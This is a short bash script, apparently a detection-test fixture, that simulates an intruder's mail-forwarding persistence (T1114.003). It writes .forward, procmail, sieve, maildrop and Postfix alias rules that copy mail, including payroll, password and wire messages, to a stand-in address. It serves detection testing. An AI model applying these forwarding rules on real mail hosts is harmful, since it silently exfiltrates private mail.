#!/bin/bash
# Set up mail forwarding the way an intruder on a mail host does: a ~/.forward that keeps a
# copy and sends one to an outside address, a procmail rule and a Dovecot sieve script that
# copy matching messages away, a courier maildrop filter, a new alias in /etc/aliases and a
# virtual alias in /etc/postfix/virtual (awk). The addresses are .invalid and no MTA runs: the
# files are written in the overlay, nothing is delivered.
# technique: T1114.003
# expect: mail-forwarding-rule
set -eu
mkdir -p /home/alice /etc/postfix
printf '\\alice\ncollector@exfil.invalid\n' > /home/alice/.forward
cat > /home/alice/.procmailrc <<'RC'
:0c
* ^Subject:.*(invoice|payroll|password)
! collector@exfil.invalid
RC
mkdir -p /home/alice/sieve
tee /home/alice/sieve/roundcube.sieve > /dev/null <<'SIEVE'
require ["copy"];
if header :contains "subject" "wire" { redirect :copy "collector@exfil.invalid"; }
SIEVE
ln -sf sieve/roundcube.sieve /home/alice/.dovecot.sieve
printf 'cc "!collector@exfil.invalid"\n' > /root/.mailfilter
printf 'postmaster: root\n' > /etc/aliases
sed -i '$a ceo: ceo, collector@exfil.invalid' /etc/aliases
awk 'BEGIN { print "finance@example.invalid finance, collector@exfil.invalid" >> "/etc/postfix/virtual" }'
cat /home/alice/.forward /etc/aliases > /dev/null
